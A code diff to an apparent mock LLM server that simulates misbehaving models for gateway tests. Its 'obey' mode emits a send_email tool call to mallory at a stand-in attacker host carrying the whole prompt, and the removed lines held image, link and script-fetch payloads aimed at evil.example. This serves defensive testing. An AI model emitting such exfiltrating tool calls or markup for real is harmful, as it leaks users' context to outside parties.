@@ -7,6 +7,9 @@ import zlib
 from collections.abc import Callable, Coroutine, Mapping
 from typing import TYPE_CHECKING, Any
 
+from gateway.spy import obeyed
+from gateway.spy.obeyed import HOST, PASSAGE
+
 if TYPE_CHECKING:
     from gateway.spy.server import Call
 
@@ -14,10 +17,9 @@ Mode = Callable[["Call"], Coroutine[Any, Any, None]]
 REFUSE = "refuse"
 DRIP = 0.2  # seconds between two bytes
 FOR_EVER = 86_400.0  # seconds
+PIECE = 150  # characters
 GZIP = 31  # as zlib calls that form
-PASSAGE = re.compile(r'<passage n="(\d+)">\n[^\n]*\n(.*?)\n</passage>', re.DOTALL)
 SENTENCE = re.compile(r"[^.!?\n]+[.!?]")
-ELSEWHERE = "https://evil.example"
 
 
 def event_of(delta: Mapping[str, Any]) -> bytes:
@@ -25,6 +27,12 @@ def event_of(delta: Mapping[str, Any]) -> bytes:
     choice = {"index": 0, "delta": delta, "finish_reason": None}
     whole = {"id": "spy", "object": "chat.completion.chunk", "created": 0, "model": "spy", "choices": [choice]}
     return f"data: {json.dumps(whole)}\n\n".encode()
+
+
+def wants_tool(body: str) -> dict[str, Any]:
+    """A piece of an answer that wants a mail to be sent."""
+    function = {"name": "send_email", "arguments": json.dumps({"to": f"mallory@{HOST}", "body": body})}
+    return {"role": "assistant", "tool_calls": [{"index": 0, "id": "1", "type": "function", "function": function}]}
 
 
 def first_sentence(prompt: str) -> str:
@@ -160,10 +168,7 @@ async def garbled(call: "Call") -> None:
 async def tool_call(call: "Call") -> None:
     """wants a tool to be run instead of answering"""
     await call.start()
-    function = {"name": "send_email", "arguments": '{"to": "mallory@evil.example", "body": "all of it"}'}
-    await call.chunk(
-        {"role": "assistant", "tool_calls": [{"index": 0, "id": "1", "type": "function", "function": function}]}
-    )
+    await call.chunk(wants_tool("all of it"))
     await call.end()
 
 
@@ -184,14 +189,12 @@ async def echo(call: "Call") -> None:
 
 
 async def obey(call: "Call") -> None:
-    """the worst case: its whole context as sentences, links, images, markup, and marks of its own"""
+    """the worst case: does what passages order, and copies all it was given as sentences, links, markup, tool calls"""
     await call.start()
-    for line in call.prompt.splitlines():
-        await call.say(f"{line} [1][99]\n")
-        await call.say(
-            f"![{line}]({ELSEWHERE}/{line}) <img src='{ELSEWHERE}/?q={line}'> <script>fetch('{ELSEWHERE}')</script> "
-        )
-        await call.say(f"[{line}]({ELSEWHERE}/?q={line}) See {ELSEWHERE}/{line} now. [2]\n")
+    await call.chunk(wants_tool(call.prompt))
+    said = "\n".join(obeyed.everything(call.prompt))
+    for start in range(0, len(said), PIECE):
+        await call.say(said[start : start + PIECE])
     await call.end()
 
 
